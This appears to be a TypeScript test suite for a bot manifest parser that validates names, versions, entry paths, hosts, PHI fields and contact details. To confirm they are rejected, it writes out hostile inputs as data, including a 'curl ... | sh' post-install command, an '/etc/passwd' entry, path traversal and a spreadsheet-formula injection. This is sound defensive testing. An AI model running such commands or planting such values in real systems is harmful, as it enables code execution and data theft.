import { isOrderlyError } from '../errors';
import { parseManifest, requireContactsForProduction } from './manifest';

/** A valid manifest with only the required fields; tests change one thing at a time. */
function manifest(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    name: 'fake-bot',
    version: '1.2.3',
    entry: 'src/index.ts',
    segments: ['demo'],
    input: {
      type: 'object',
      properties: {
        memberId: { type: 'string', pattern: '^[A-Z0-9]{6,12}$' },
        visits: { type: 'integer', minimum: 0 },
      },
      required: ['memberId'],
    },
    phi: ['memberId'],
    ...overrides,
  };
}

function problemOf(text: string): { code: string; message: string } {
  try {
    parseManifest(text);
  } catch (err) {
    if (isOrderlyError(err)) return { code: err.code, message: err.message };
    throw err;
  }
  throw new Error('expected parseManifest to throw');
}

const invalid = (m: Record<string, unknown>) => problemOf(JSON.stringify(m));

describe('parseManifest', () => {
  it('parses a valid manifest and fills in the defaults', () => {
    const { phi: _phi, ...withoutPhi } = manifest();
    const parsed = parseManifest(JSON.stringify(withoutPhi));
    expect(parsed.name).toBe('fake-bot');
    expect(parsed.version).toBe('1.2.3');
    expect(parsed.segments).toEqual(['demo']);
    expect(parsed.phi).toEqual([]);
    expect(parsed.phiSelectors).toEqual([]);
    expect(parsed.hosts).toEqual([]);
    expect(parsed.credentials).toEqual([]);
    expect(parsed.timeoutSeconds).toBe(300);
    expect(parsed.attempts).toBe(3);
    expect(parsed.input.additionalProperties).toBe(false);
    expect(parsed.input.required).toEqual(['memberId']);
  });

  it('keeps explicit values', () => {
    const parsed = parseManifest(
      JSON.stringify(
        manifest({ hosts: ['portal.example.test:8443', '*.example.test', '[::1]:8080'], credentials: ['portal_login'], timeoutSeconds: 60, attempts: 1 }),
      ),
    );
    expect(parsed.hosts).toEqual(['portal.example.test:8443', '*.example.test', '[::1]:8080']);
    expect(parsed.credentials).toEqual(['portal_login']);
    expect(parsed.timeoutSeconds).toBe(60);
    expect(parsed.attempts).toBe(1);
    expect(parsed.phi).toEqual(['memberId']);
  });

  it('refuses malformed JSON', () => {
    expect(problemOf('{"name": "fake-bot",').code).toBe('ORDERLY_E_MANIFEST_INVALID');
    expect(problemOf('').code).toBe('ORDERLY_E_MANIFEST_INVALID');
  });

  it.each([
    ['a JSON array', []],
    ['an unknown top-level field', manifest({ postInstall: 'curl fake.example.test | sh' })],
    ['an unknown field in an input property', manifest({ input: { type: 'object', properties: { memberId: { type: 'string', secret: true } } } })],
    ['an unknown field in the input schema', manifest({ input: { type: 'object', properties: {}, patternProperties: {} } })],
    ['additionalProperties: true', manifest({ input: { type: 'object', properties: {}, additionalProperties: true } })],
    ['an upper-case name', manifest({ name: 'Fake-Bot' })],
    ['a name with a path in it', manifest({ name: '../fake-bot' })],
    ['a name with a double dash', manifest({ name: 'fake--bot' })],
    ['a version that is not semver', manifest({ version: '1.2' })],
    ['a version with build metadata', manifest({ version: '1.2.3+build.5' })],
    ['a version with a leading zero', manifest({ version: '01.2.3' })],
    ['a segment with a colon', manifest({ segments: ['demo:prod'] })],
    ['an upper-case segment', manifest({ segments: ['Demo'] })],
    ['no segments', manifest({ segments: [] })],
    ['a phi field that is not an input property', manifest({ phi: ['ssn'] })],
    ['a phi field named like an Object.prototype member', manifest({ phi: ['toString'] })],
    ['a required field that is not declared', manifest({ input: { type: 'object', properties: { memberId: { type: 'string' } }, required: ['dateOfBirth'] } })],
    [
      'a required field named like an Object.prototype member',
      manifest({ input: { type: 'object', properties: { memberId: { type: 'string' } }, required: ['constructor'] } }),
    ],
    ['an unknown field type', manifest({ input: { type: 'object', properties: { memberId: { type: 'array' } } } })],
    ['an entry with `..`', manifest({ entry: '../outside.js' })],
    ['an entry with `..` in the middle', manifest({ entry: 'src/../../outside.js' })],
    ['an absolute entry', manifest({ entry: '/etc/passwd' })],
    ['an entry with a `./` segment', manifest({ entry: './src/index.ts' })],
    ['a timeout over an hour', manifest({ timeoutSeconds: 3601 })],
    ['zero attempts', manifest({ attempts: 0 })],
    ['a host pattern with a scheme', manifest({ hosts: ['https://portal.example.test'] })],
    ['a host pattern with a path', manifest({ hosts: ['portal.example.test/admin'] })],
    ['a bare wildcard host', manifest({ hosts: ['*'] })],
    ['an upper-case credential name', manifest({ credentials: ['Portal'] })],
  ])('refuses %s with ORDERLY_E_MANIFEST_INVALID', (_what, m) => {
    expect(problemOf(JSON.stringify(m)).code).toBe('ORDERLY_E_MANIFEST_INVALID');
  });

  it('names every problem by path in one error', () => {
    const { message } = invalid(manifest({ version: 'latest', entry: '../x.js' }));
    expect(message).toContain('version');
    expect(message).toContain('entry');
    expect(message).not.toContain('(manifest):'); // field-level paths, not a generic one
  });

  it('names the phi problem by path', () => {
    expect(invalid(manifest({ phi: ['ssn'] })).message).toMatch(/phi: every phi field must be an input property/);
  });

  it('refuses a malformed regex pattern with the pattern code', () => {
    const m = manifest({ input: { type: 'object', properties: { memberId: { type: 'string', pattern: '([A-Z' } } } });
    expect(problemOf(JSON.stringify(m)).code).toBe('ORDERLY_E_INPUT_PATTERN_UNSUPPORTED');
  });

  it('refuses an input pattern RE2 cannot compile with its own code, naming the field', () => {
    const m = manifest({ input: { type: 'object', properties: { memberId: { type: 'string', pattern: '^(a+)+\\1$' } }, required: ['memberId'] } });
    const problem = problemOf(JSON.stringify(m));
    expect(problem.code).toBe('ORDERLY_E_INPUT_PATTERN_UNSUPPORTED');
    expect(problem.message).toContain('input.properties.memberId.pattern');
  });
});

describe('contacts', () => {
  const contacts = { owner: 'Fake Owner <owner@example.test>', dataSteward: 'data-steward@example.test', securityContact: "Fake O'Security (team)" };

  it('parses contacts and keeps them', () => {
    expect(parseManifest(JSON.stringify(manifest({ contacts }))).contacts).toEqual(contacts);
    expect(parseManifest(JSON.stringify(manifest())).contacts).toBeUndefined();
  });

  it.each([
    ['a missing security contact', { owner: 'Fake Owner', dataSteward: 'Fake Steward' }],
    ['an extra field', { ...contacts, pager: 'Fake Pager' }],
    ['a spreadsheet formula', { ...contacts, owner: '=HYPERLINK("http://example.test")' }],
    ['a quote and a newline', { ...contacts, dataSteward: 'Fake "Steward"\nX' }],
    ['a name over 200 characters', { ...contacts, owner: 'a'.repeat(201) }],
    ['an empty name', { ...contacts, owner: '' }],
    ['a non-string', { ...contacts, owner: 42 }],
  ])('refuses %s', (_what, value) => {
    const problem = invalid(manifest({ contacts: value }));
    expect(problem.code).toBe('ORDERLY_E_MANIFEST_INVALID');
    expect(problem.message).toContain('contacts');
  });

  it('requires contacts for a production segment only', () => {
    const demoOnly = parseManifest(JSON.stringify(manifest({ segments: ['demo'] })));
    expect(() => requireContactsForProduction(demoOnly, ['live'])).not.toThrow();
    const live = parseManifest(JSON.stringify(manifest({ segments: ['demo', 'live'] })));
    let caught: unknown;
    try {
      requireContactsForProduction(live, ['live']);
    } catch (err) {
      caught = err;
    }
    expect(caught).toMatchObject({ code: 'ORDERLY_E_CONTACTS_REQUIRED', details: { segments: ['live'] } });
    expect((caught as Error).message).toMatch(/production segments \(live\).*owner.*dataSteward.*securityContact/);
    expect(() => requireContactsForProduction(parseManifest(JSON.stringify(manifest({ segments: ['live'], contacts }))), ['live'])).not.toThrow();
  });
});
